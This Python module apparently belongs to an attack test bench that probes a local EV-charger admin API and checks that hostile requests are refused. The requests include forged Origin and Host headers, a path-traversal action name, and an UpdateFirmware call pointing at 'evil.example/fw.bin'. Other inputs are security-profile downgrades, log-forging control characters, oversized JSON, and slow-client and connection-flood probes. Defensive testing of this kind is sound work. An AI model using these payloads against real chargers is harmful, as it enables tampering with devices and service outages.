"""Attacks on the admin API as a web page, a stranger on the host and a careless client would make them."""

from __future__ import annotations

import asyncio
import http.client
import json
import os
import socket
import time
from pathlib import Path

from bench.attack_report import TOKENLESS, Row

Answer = tuple[int, str]  # HTTP status (0: no answer) and body


def request(
    port: int,
    method: str,
    path: str,
    *,
    headers: dict[str, str | bytes] | None = None,
    body: bytes | None = None,
    host: str | None = None,
    timeout_s: float = 8.0,
) -> Answer:
    """One HTTP request with exactly these headers (a foreign Host, an Origin, raw bytes allowed)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout_s)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", host or f"127.0.0.1:{port}")
        for name, value in (headers or {}).items():
            conn.putheader(name, value)
        if body is not None:
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        resp = conn.getresponse()
        return resp.status, resp.read().decode(errors="replace")
    except (OSError, http.client.HTTPException) as exc:
        return 0, f"{type(exc).__name__}: {exc}"
    finally:
        conn.close()


def _auth(token: str | None) -> dict[str, str | bytes]:
    return {"Authorization": f"Bearer {token}"} if token else {}


def _json_body(obj: object) -> tuple[dict[str, str | bytes], bytes]:
    return {"Content-Type": "application/json"}, json.dumps(obj).encode()


def token_attacks(port: int, token: str | None, victim: str) -> tuple[Row, list[str]]:
    """Requests that must all be refused: no token, a wrong one, and a good one from a web page or a foreign Host."""
    jh, override = _json_body({"color": "green", "minutes": 1, "who": "attack-bench"})
    trigger = json.dumps({"requestedMessage": "Heartbeat"}).encode()
    good = _auth(token)
    tries: list[tuple[str, str, str, dict, bytes | None, str | None]] = [
        ("no token, GET status", "GET", "/api/status", {}, None, None),
        ("no token, PUT override", "PUT", "/api/bays/B02/override", jh, override, None),
        (
            "wrong token, GET status",
            "GET",
            "/api/status",
            {"Authorization": "Bearer not-the-token"},
            None,
            None,
        ),
        (
            "wrong token, POST call",
            "POST",
            f"/api/chargers/{victim}/call/TriggerMessage",
            {
                "Authorization": "Bearer not-the-token",
                "Content-Type": "application/json",
            },
            trigger,
            None,
        ),
        (
            "good token + Origin",
            "GET",
            "/api/status",
            {**good, "Origin": "http://evil.example"},
            None,
            None,
        ),
        (
            "good token, text/plain POST call",
            "POST",
            f"/api/chargers/{victim}/call/TriggerMessage",
            {**good, "Content-Type": "text/plain"},
            trigger,
            None,
        ),
        (
            "web page: Origin + text/plain POST call",
            "POST",
            f"/api/chargers/{victim}/call/TriggerMessage",
            {**good, "Origin": "http://evil.example", "Content-Type": "text/plain"},
            trigger,
            None,
        ),
        ("good token, foreign Host", "GET", "/api/status", good, None, "evil.example"),
    ]
    accepted, details = [], []
    for name, method, path, headers, body, host in tries:
        status, _ = request(port, method, path, headers=headers, body=body, host=host)
        details.append(f"{name}: {status}")
        if 200 <= status < 300:
            accepted.append(name)
    request(
        port, "DELETE", "/api/bays/B02/override", headers=good
    )  # leave no override behind
    outcome = f"{len(accepted)} of {len(tries)} got 2xx" + (
        f" ({'; '.join(accepted)})" if accepted else ""
    )
    return Row(
        "5",
        "API calls without a valid token, from a web page or a foreign Host",
        len(tries),
        len(accepted),
        0,
        outcome,
        total=TOKENLESS,
    ), details


def whitelist_attacks(
    port: int, token: str | None, victim: str, folder: Path
) -> tuple[Row, Row]:
    """Actions outside the version's request list, a path into the file system, a risky call, then the event log."""
    (folder / "evil.json").write_text("{}")  # a schema that accepts anything
    escape = "..%2F" * 20 + str(folder / "evil").lstrip("/").replace("/", "%2F")
    jh, empty = _json_body({})
    _, firmware = _json_body(
        {
            "location": "http://evil.example/fw.bin",
            "retrieveDate": "2026-01-01T00:00:00Z",
        }
    )
    _, password = _json_body({"key": "AuthorizationKey", "value": "0123456789abcdef0123456789abcdef"})
    _, profile = _json_body({"key": "SecurityProfile", "value": "0"})
    tries = [
        ("unknown action FooBar", "FooBar", empty),
        ("file path as action", escape, empty),
        ("action with a dot", "Reset.json", empty),
        ("UpdateFirmware without allow_risky_calls", "UpdateFirmware", firmware),
        ("a new charger password (AuthorizationKey) without allow_risky_calls", "ChangeConfiguration", password),
        ("security profile 0 without allow_risky_calls", "ChangeConfiguration", profile),
    ]
    forwarded, details = [], []
    for name, action, body in tries:
        status, text = request(
            port,
            "POST",
            f"/api/chargers/{victim}/call/{action}",
            headers={**_auth(token), **jh},
            body=body,
        )
        details.append(f"{name}: {status}")
        if status in (
            200,
            502,
            504,
        ):  # the charger was asked (it answered, refused, or kept silent)
            forwarded.append(name)
    row = Row(
        "6",
        "calls outside the whitelist forwarded to a charger",
        len(tries),
        len(forwarded),
        0,
        "; ".join(details),
    )
    status, text = request(port, "GET", "/api/events?limit=200", headers=_auth(token))
    logged = 0
    if status == 200:
        events = json.loads(text)
        logged = sum(1 for e in events if "UpdateFirmware" in json.dumps(e))
    logged_row = Row(
        "6",
        "API calls to chargers found in the event log",
        1,
        logged,
        1,
        f"events naming UpdateFirmware: {logged}",
        at_least=True,
    )
    return row, logged_row


def hostile_inputs(port: int, token: str | None) -> tuple[Row, Row]:
    """Input that must get a 400, never a 500 (or no answer); and control characters in who/why."""
    auth = _auth(token)
    jh = {"Content-Type": "application/json"}
    nested = b"[" * 100_000 + b"]" * 100_000
    huge = b'{"color": "green", "minutes": ' + b"9" * 5000 + b"}"
    tries: list[tuple[str, str, str, dict, bytes | None]] = [
        ("deeply nested JSON", "PUT", "/api/bays/B02/override", {**auth, **jh}, nested),
        ("5000-digit integer", "PUT", "/api/bays/B02/override", {**auth, **jh}, huge),
        (
            "since in year 9999+",
            "GET",
            "/api/events?since=99999-01-01T00:00:00Z",
            auth,
            None,
        ),
        (
            "since before year 1 in UTC",
            "GET",
            "/api/events?since=0001-01-01T00:00:00%2B23:59",
            auth,
            None,
        ),
        (
            "since after year 9999 in UTC",
            "GET",
            "/api/sessions?since=9999-12-31T23:59:59-23:59",
            auth,
            None,
        ),
        ("since not a time", "GET", "/api/sessions?since=%00%ff", auth, None),
        (
            "non-UTF-8 Authorization",
            "GET",
            "/api/status",
            {"Authorization": b"Bearer \xff\xfe\x80"},
            None,
        ),
        (
            "non-UTF-8 body",
            "PUT",
            "/api/bays/B02/override",
            {**auth, **jh},
            b'{"color": "\xff"}',
        ),
    ]
    bad, details = [], []
    for name, method, path, headers, body in tries:
        status, _ = request(port, method, path, headers=headers, body=body)
        details.append(f"{name}: {status}")
        if status == 0 or status >= 500:
            bad.append(name)
    row = Row(
        "7",
        "hostile input answered with a 5xx or no answer",
        len(tries),
        len(bad),
        0,
        "; ".join(details),
    )
    control = [
        (
            "who with ESC",
            {"color": "green", "minutes": 1, "who": "\x1b[2J\x1b[31mroot", "why": "x"},
        ),
        (
            "why with newline",
            {
                "color": "green",
                "minutes": 1,
                "who": "tech",
                "why": "ok\n2026-01-01 FORGED line",
            },
        ),
    ]
    taken = []
    for name, body in control:
        status, _ = request(
            port,
            "PUT",
            "/api/bays/B02/override",
            headers={**auth, **jh},
            body=json.dumps(body).encode(),
        )
        if 200 <= status < 300:
            taken.append(name)
        request(port, "DELETE", "/api/bays/B02/override", headers=auth)
    crow = Row(
        "7",
        "control characters accepted in who/why",
        len(control),
        len(taken),
        0,
        f"accepted: {', '.join(taken) or 'none'}",
    )
    return row, crow


async def slow_client(port: int, wait_s: float = 15.0) -> Row:
    """A client that sends half a request line and then nothing: is it timed out within `wait_s`?"""

    def probe() -> bool:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
            sock.sendall(b"GET /api/status HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            sock.settimeout(wait_s)
            try:
                return sock.recv(1) == b""  # closed (or an answer: a 408) by the server
            except TimeoutError:
                return False
            except OSError:
                return True

    timed_out = await asyncio.to_thread(probe)
    return Row(
        "7",
        f"slow clients still connected after {wait_s:g} s",
        1,
        0 if timed_out else 1,
        0,
        "closed by the server" if timed_out else f"still open after {wait_s:g} s",
    )


def open_fds(pid: int) -> int:
    """How many files (sockets included) a process has open now."""
    return len(os.listdir(f"/proc/{pid}/fd"))


async def connection_cap(port: int, pid: int, n: int = 200) -> Row:
    """`n` idle connections from one host: how many does the daemon take in (its open files while they wait)?"""

    def probe() -> tuple[int, int]:
        before = open_fds(pid)
        socks: list[socket.socket] = []
        try:
            for _ in range(n):
                try:
                    socks.append(
                        socket.create_connection(("127.0.0.1", port), timeout=1)
                    )
                except OSError:
                    break  # the listen queue is full: the rest would wait as long
            time.sleep(1.5)
            return len(socks), open_fds(pid) - before
        finally:
            for s in socks:
                s.close()

    opened, taken = await asyncio.to_thread(probe)
    return Row(
        "7",
        f"idle API connections the daemon takes in from one host (of {n} tried)",
        opened,
        taken,
        100,
        f"{opened} connected (listen queue included); the daemon's open files grew by {taken}",
    )
